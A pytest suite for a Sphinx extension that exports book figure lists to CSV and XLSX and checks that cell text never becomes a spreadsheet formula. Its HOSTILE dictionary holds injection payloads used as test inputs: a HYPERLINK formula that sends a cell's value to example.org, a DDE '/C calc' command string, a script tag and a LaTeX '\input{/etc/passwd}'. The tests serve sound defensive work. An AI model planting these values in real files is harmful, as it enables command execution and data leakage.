"""CSV and XLSX: what the book says, as text that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from importlib import machinery
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sphinx.errors import ConfigError
from support import (
    Built,
    build,
    load_seed,
    own_files,
    png,
    same_bytes,
    touch_now,
    write_tree,
)
from support.machine import GOLDEN
from support.small import book, doc, fig, section, toc, volumes

from sphinxext_figlist.assemble.cells import defused, restored
from sphinxext_figlist.export.columns import COLUMNS
from sphinxext_figlist.export.plain import clean

# As SPEC has them.
NAMES = """volume, chapter number, chapter title, figure number, page, title, caption,
legend, alt text, alt status, credit, author, licence, permission,
notes, image file, format, pixel width, pixel height, printed width (inches),
pixels per inch, first reference, number of references, label, source file, line"""


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines, strict=True))


def read_xlsx(path: Path) -> list[dict[str, str]]:
    sheet = openpyxl.load_workbook(path)["Figures"]
    head, *rows = (
        ["" if cell is None else str(cell) for cell in row]
        for row in sheet.iter_rows(values_only=True)
    )
    return [dict(zip(head, row, strict=True)) for row in rows]


def test_columns() -> None:
    assert list(COLUMNS) == [" ".join(name.split()) for name in NAMES.split(",")]


# -- a small book -----------------------------------------------------------------

SMALL: dict[str, str | bytes] = {
    "index.rst": doc("Mills", toc("v1", "v2")),
    "v1.rst": doc("Wind", toc("sails", numbered=True)),
    "v2.rst": doc(
        "Water", toc("wheels", numbered=True), "Sources\n-------\n\n.. bibliography::\n"
    ),
    "sails.rst": doc(
        "Sails & caps",
        ".. figure:: pictures/post.jpg\n   :name: fig-post\n   :alt: A mill on a post,\n"
        "      turned\n      by hand.\n\n"
        "   **Post mill**: the *whole* body turns about :math:`\\omega_1` :cite:p:`smith`;\n"
        "   see :numref:`fig-wheel`, ``x = 1`` and `the web <https://example.org/>`__ [#n]_.\n"
        "   Source: Mill Society.\n\n"
        "   Drawn to scale.\n\n   - by eye\n",
        ".. [#n] A note.",
        section(
            "Turning them",
            "As :numref:`fig-post` shows.",
            ".. figure:: /p.png\n   :alt:\n",
        ),
    ),
    "wheels.rst": doc(
        "Wheels",
        "Unlike :numref:`fig-wheel` [Old]_.",
        ".. [Old] An old book.",
        section(
            "Overshot",
            "Compare :numref:`fig-post`.",
            ".. figure:: drawing.svg\n   :name: fig-wheel\n\n   A wheel after [Old]_. Courtesy of A. Smith.\n",
            ".. figure:: https://example.org/x.png\n   :name: fig-far\n\n   Far away.\n",
        ),
    ),
    "refs.bib": "@book{smith, author = {Smith, A.}, title = {One}, year = {2020}, publisher = {P}}",
    "pictures/post.jpg": bytes.fromhex(
        "ffd8ffe000104a46494600010101004800480000ffc0000b080190025801011100ffd9"
    ),
    "drawing.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
}


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return book(
        tmp_path_factory.mktemp("small"),
        SMALL,
        volumes=volumes("v1", "v2"),
        extensions=["sphinxcontrib.bibtex", "sphinxext_figlist"],
        bibtex_bibfiles=["refs.bib"],
        smartquotes=False,
    )


@pytest.fixture(scope="module")
def built(source: Path) -> Built:
    return build(
        source, source.with_name("out"), builder="figlist", warning_is_error=True
    )


@pytest.mark.parametrize("volume", [1, 2])
def test_golden(built: Built, volume: int) -> None:
    name = f"FIGURE_LIST_VOL{volume}.csv"
    wanted = {name: (GOLDEN / name).read_bytes()}
    assert same_bytes({name: (built.out / name).read_bytes()}, wanted) == []


@pytest.mark.parametrize("volume", [1, 2])
def test_workbook_says_the_same(built: Built, volume: int) -> None:
    stem = built.out / f"FIGURE_LIST_VOL{volume}"
    assert read_xlsx(stem.with_suffix(".xlsx")) == read_csv(stem.with_suffix(".csv"))


def test_workbook(built: Built) -> None:
    book = openpyxl.load_workbook(built.out / "FIGURE_LIST_VOL1.xlsx")
    assert book.sheetnames == ["Figures", "Alt texts", "About"]
    assert book.active.title == "Figures"
    sheet = book["Figures"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:Z3"
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None:
                assert cell.data_type == "s"
                assert cell.number_format == "@"
                assert cell.alignment.wrap_text
    assert all(
        8 <= sheet.column_dimensions[letter].width <= 64
        for letter in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    )


def test_csv_form(built: Built) -> None:
    """RFC 4180, without a byte order mark."""
    data = (built.out / "FIGURE_LIST_VOL1.csv").read_bytes()
    assert data.startswith(b"volume,chapter number,")
    assert data.endswith(b"\r\n")
    assert not re.search(rb"(?<!\r)\n|\r(?!\n)", data)


def test_same_bytes_anywhere(source: Path, built: Built, tmp_path: Path) -> None:
    again = build(source, tmp_path / "again", builder="figlist", parallel=2)
    assert same_bytes(own_files(again.out), own_files(built.out)) == []
    with zipfile.ZipFile(built.out / "FIGURE_LIST_VOL1.xlsx") as packed:
        for info in packed.infolist():
            # What the day, the system and its zlib would change.
            assert info.date_time == (1980, 1, 1, 0, 0, 0)
            assert info.create_system == 0
            assert info.compress_type == zipfile.ZIP_STORED
        assert b"1980-01-01" in packed.read("docProps/core.xml")


@pytest.mark.parametrize("builder", ["html", "latex", "text"])
def test_from_page_builds(
    source: Path, built: Built, tmp_path: Path, builder: str
) -> None:
    out = tmp_path / "out"
    formats = {"figlist_formats": "csv,xlsx,markdown,json"}
    build(source, out, builder=builder, overrides=formats, allow=["fetch remote image"])
    ours = {path.name: path.read_bytes() for path in (out / "figlist").iterdir()}
    assert same_bytes(ours, own_files(built.out)) == []


FRESH: dict[str, str | bytes] = {
    "index.rst": doc("Top", toc("one", "two", numbered=True)),
    "one.rst": doc("One", fig("a"), fig("b")),
    "two.rst": doc("Two", section("Inner", "See :numref:`fig-a`.")),
    # As sphinx-metadata-figure notes them.
    "noted.txt": "Ann",
    "notes_ext.py": """
def note(app, document):
    path = app.srcdir / "noted.txt"
    app.env.note_dependency(str(path))
    for figure in document.findall(lambda node: node.tagname == "figure"):
        figure["author"] = path.read_text()

def setup(app):
    app.connect("doctree-read", note)
""",
}

EDITS = {
    "a chapter that refers": ("two.rst", "Two\n===", "Zwei\n===="),
    "a section that refers": ("two.rst", "Inner\n-----", "Inside\n------"),
    "one more reference": ("two.rst", "See", "See :numref:`fig-b` and"),
    "an author": ("noted.txt", "Ann", "Bob"),
}


@pytest.mark.parametrize("edit", EDITS)
def test_fresh(tmp_path: Path, edit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Files follow what only their columns show."""
    source = book(
        tmp_path,
        FRESH,
        extensions=["sphinxext_figlist", "notes_ext"],
        exclude_patterns=["*.txt"],
    )
    monkeypatch.syspath_prepend(source)
    out = tmp_path / "out"
    before = own_files(build(source, out, builder="figlist").out)
    name, old, new = EDITS[edit]
    path = source / name
    assert old in path.read_text()
    path.write_text(path.read_text().replace(old, new))
    touch_now(path)
    build(source, out, builder="figlist")
    clean = build(source, tmp_path / "clean", builder="figlist")
    assert same_bytes(own_files(out), own_files(clean.out)) == []
    assert own_files(out)["FIGURE_LIST.csv"] != before["FIGURE_LIST.csv"]


# -- without the library ----------------------------------------------------------


@pytest.fixture
def no_library(monkeypatch: pytest.MonkeyPatch) -> None:
    def find(name: str, *rest: Any) -> machinery.ModuleSpec | None:
        return None if name == "xlsxwriter" else find_spec(name, *rest)

    monkeypatch.setattr("sphinxext_figlist.registry.find_spec", find)


@pytest.mark.usefixtures("no_library")
def test_left_out(source: Path, tmp_path: Path) -> None:
    built = build(source, tmp_path / "out", builder="figlist", warning_is_error=True)
    assert {path.suffix for path in built.out.glob("FIGURE*")} == {
        ".md",
        ".json",
        ".csv",
    }
    lines = [line for line in built.status.splitlines() if "xlsx" in line]
    assert len(lines) == 1
    assert "install figlist with the extra 'xlsx'" in lines[0]


@pytest.mark.usefixtures("no_library")
@pytest.mark.parametrize("builder", ["figlist", "html"])
def test_named_all_the_same(source: Path, tmp_path: Path, builder: str) -> None:
    with pytest.raises(ConfigError, match=r"figlist_formats: 'xlsx' .* extra 'xlsx'"):
        build(
            source,
            tmp_path / "o",
            builder=builder,
            overrides={"figlist_formats": "xlsx"},
        )


# -- the reference book -----------------------------------------------------------


@pytest.mark.seed
@pytest.mark.parametrize("count", [1, 2])
def test_reference_book(tmp_path: Path, count: int) -> None:
    """The same 175 entries as in the Markdown, by readers of other people's."""
    folder = tmp_path / "book"
    parts = load_seed().write_book(folder, "mixed", count, bibtex=True, conf=True)
    out = tmp_path / "out"
    build(folder, out, builder="figlist", warning_is_error=True)
    total = 0
    for volume, chapters in enumerate(parts, 1):
        stem = out / f"FIGURE_LIST_VOL{volume}"
        rows = read_csv(stem.with_suffix(".csv"))
        assert read_xlsx(stem.with_suffix(".xlsx")) == rows
        wanted = [figure for chapter in chapters for figure in chapter.figures]
        assert [row["label"] for row in rows] == [figure.name for figure in wanted]
        assert [row["figure number"] for row in rows] == [f.number for f in wanted]
        assert [row["alt text"] for row in rows] == [clean(f.alt) for f in wanted]
        said = stem.with_suffix(".md").read_text("utf-8")
        numbers = re.findall(r"^### Figure ([\d.]+): (.*)$", said, re.MULTILINE)
        assert [row["figure number"] for row in rows] == [n for n, _ in numbers]
        for row, (_, title) in zip(rows, numbers, strict=True):
            if not set("$*`\\[_<&") & set(title):
                assert row["title"] == title
            assert "$" not in row["caption"] or "$" in title
            assert "[@" not in row["caption"]
        data = json.loads(stem.with_suffix(".json").read_bytes())
        figures = [f for chapter in data["chapters"] for f in chapter["figures"]]
        for row, figure in zip(rows, figures, strict=True):
            assert row["image file"] == figure["images"][0]["path"]
            assert row["number of references"] == str(len(figure["references"]))
            first = figure["references"][0]["section"] if figure["references"] else ""
            assert row["first reference"].endswith(first)
            assert (row["pixel width"], row["pixel height"]) == ("48", "32")
        total += len(rows)
    assert total == 175


# -- hostile text -----------------------------------------------------------------

HOSTILE = {
    "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "wide": "\uff1dSUM(1)",
    "tab": "\t=1+1",
    "newlines": "one\n=two\r\nthree\r=four",
    "html": "<script>alert(1)</script><b>x</b>&amp;&lt;",
    "latex": "\\input{/etc/passwd} % \\newcommand #1 $x$ ~^_{}",
    "quotes": '"a",\'b\',""c""; d,',
    "controls": "a\x00b\x01c\x08d\x1be\x7ff\x85g\ufffeh\uffffi",
    "right-to-left": "\u05e9\u05dc\u05d5\u05dd \u202eabc\u202c \u0645\u0631\u062d\u0628\u0627",
    "escape": "_x0041_ _x000D_ &#65;",
    "long": "word " * 2000,
    "very-long": "x" * 40_000,
    "astral": "\U0001f5fa" * 17_000,
    "space": "  = 1",
    "no-break": "a\u00a0b\u202fc",
    "apostrophe": "'=1",
}


#: With these a formula begins, also as East Asian keyboards have them.
SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def is_formula(cell: object) -> bool:
    return str(cell).startswith(SIGNS)


def as_documented(words: str) -> str:
    """The text of a cell: one line, without what no text file should hold."""
    words = "".join(
        c for c in words if unicodedata.category(c) != "Cc" or c in "\t\n\r\x85"
    )
    words = words.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd")
    return re.sub(r"[ \t\n\r\x85]+", " ", words).strip()


@pytest.mark.parametrize("place", ["caption", "legend", "alt", "label", "author"])
def test_hostile_text(
    tmp_path: Path, place: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a document can hold arrives, and nothing of it is a formula."""
    extension = f"""
from docutils import nodes

HOSTILE = {HOSTILE!r}

def rewrite(app, document):
    for figure in document.findall(nodes.figure):
        words = HOSTILE[figure["names"][0]]
        if {place!r} == "caption":
            caption, = figure.findall(nodes.caption)
            caption.children = [nodes.Text(words)]
        elif {place!r} == "legend":
            figure += nodes.legend("", nodes.paragraph("", "", nodes.Text(words)))
        elif {place!r} == "alt":
            figure[0]["alt"] = words
        elif {place!r} == "author":
            figure["author"] = figure["license"] = words
        else:
            std = app.env.domains["std"]
            name = figure["names"][0]
            for table in (std.anonlabels, std.labels):
                table[words] = (app.env.docname, figure["ids"][0], "x")[:len(table[name])]
            figure["names"] = [words]

def setup(app):
    app.connect("doctree-read", rewrite, priority=600)
"""
    figures = [fig(name).replace(f"fig-{name}", name) for name in HOSTILE]
    source = book(
        tmp_path,
        {"index.rst": doc("Top", *figures), f"hostile_{place}.py": extension},
        extensions=["sphinxext_figlist", f"hostile_{place}"],
        figlist_title_from="caption",
    )
    monkeypatch.syspath_prepend(source)
    build(source, tmp_path / "out", builder="figlist")
    rows = read_csv(tmp_path / "out" / "FIGURE_LIST.csv")
    sheet = read_xlsx(tmp_path / "out" / "FIGURE_LIST.xlsx")
    assert len(rows) == len(sheet) == len(HOSTILE)
    columns = {
        "caption": ["caption", "title"],
        "legend": ["legend"],
        "alt": ["alt text"],
        "label": ["label"],
        "author": ["author", "licence"],
    }[place]
    for words, row, line in zip(HOSTILE.values(), rows, sheet, strict=True):
        wanted = as_documented(words)
        for column in columns:
            cell = row[column]
            assert cell == (f"'{wanted}" if is_formula(wanted) else wanted)
            whole = line[column]
            if len(wanted.encode("utf-16-le")) // 2 > 32767:
                assert whole.endswith("\u2026")
                assert len(whole.encode("utf-16-le")) // 2 <= 32767
                assert wanted.startswith(whole[:-1])
            else:
                assert whole == wanted
        assert not any(is_formula(cell) for cell in row.values())
    for parent in openpyxl.load_workbook(
        tmp_path / "out" / "FIGURE_LIST.xlsx"
    ).worksheets:
        for cells in parent.iter_rows():
            assert all(cell.data_type != "f" for cell in cells)
            # Text still, when someone has edited it.
            assert all(
                cell.quotePrefix
                for cell in cells
                if cell.value and is_formula(cell.value)
            )
    for path in ("FIGURE_LIST.json", "FIGURE_LIST.md"):
        assert (tmp_path / "out" / path).read_bytes()


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_any_text_is_one_cell(cells: list[str]) -> None:
    written = [defused(clean(cell)) for cell in cells]
    stream = io.StringIO(newline="")
    csv.writer(stream, lineterminator="\r\n").writerow(written)
    data = stream.getvalue().encode()  # no surrogate is left
    [line] = csv.reader(io.StringIO(data.decode(), newline=""), strict=True)
    assert line == written
    for cell, word in zip(line, cells, strict=True):
        assert not is_formula(cell)
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029]", cell)
        assert clean(cell) == cell
        kept = re.sub(r"\s", "", clean(word))
        assert restored(cell) == restored(clean(word))
        assert len(kept) <= len(word)


#: Behind these a formula begins, too: a spreadsheet of another country parts cells at
#: semicolons, and what has no width is not seen.
UNSEEN = ["", "\u200b", "\ufeff", "\u2060\u00ad", "\u202e", "\u200e \u00a0"]


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("unseen", UNSEEN)
@pytest.mark.parametrize("before", ["", "a;", "a; ", '"a";', ";;"])
def test_formulas_behind_what_is_not_seen(before: str, unseen: str, sign: str) -> None:
    cell = f"{before}{unseen}{sign}1+1"
    safe = defused(cell)
    for part in safe.split(";"):
        seen = "".join(c for c in part if unicodedata.category(c) != "Cf").strip()
        assert not is_formula(seen)
    assert restored(safe) == cell
    assert safe.replace("'", "") == cell


@pytest.mark.parametrize(
    "cell", ["a = b", "1-2", "x;y", "a; b - c", "\u200b", "", "mail@example.org", "'x'"]
)
def test_text_that_is_no_formula(cell: str) -> None:
    assert defused(cell) == restored(cell) == cell


# -- sphinx-metadata-figure -------------------------------------------------------


def test_metadata_of_figures(tmp_path: Path) -> None:
    """The real package: it overrides ``figure``, and its figures are listed too."""
    text = """\
# Book

```{figure} p.png
:name: one
:author: Jane Doe
:license: CC-BY
:source: https://example.org/a_b
:copyright: Doe Ltd

The first: with metadata.
```

```{figure} p.png
:name: two
:nonumber:
:source: "[An archive](https://example.org/x)"
:author: Ann

No number. Source: here.
```

```{figure} p.png
:name: three
:number:
:copyright: The Museum
:placement: margin
```

```{figlist}
:fields: title credit
```
"""
    source = write_tree(
        tmp_path / "book",
        {
            "conf.py": "extensions = ['sphinx_metadata_figure', 'sphinxext_figlist']\n"
            "numfig = True\nfiglist_formats = ['csv', 'json']\n"
            # Which another build in this process would have changed.
            "source_suffix = {'.md': 'myst-nb'}\n",
            "index.md": text,
            "p.png": png(),
        },
    )
    build(source, tmp_path / "html")
    rows = read_csv(tmp_path / "html" / "figlist" / "FIGURE_LIST.csv")
    columns = ("label", "figure number", "title", "credit", "author", "licence")
    assert [tuple(row[column] for column in columns) for row in rows] == [
        ("one", "1", "The first", "https://example.org/a_b", "Jane Doe", "CC BY 4.0"),
        ("two", "", "", "Source: here.", "Ann", ""),
        ("three", "2", "", "The Museum", "", ""),
    ]
    data = json.loads((tmp_path / "html" / "figlist" / "FIGURE_LIST.json").read_bytes())
    [chapter] = data["chapters"]
    assert chapter["figures"][0]["credit"] == (
        "[https://example.org/a\\_b](https://example.org/a_b)"
    ) or chapter["figures"][0]["credit"].endswith("(https://example.org/a_b)")
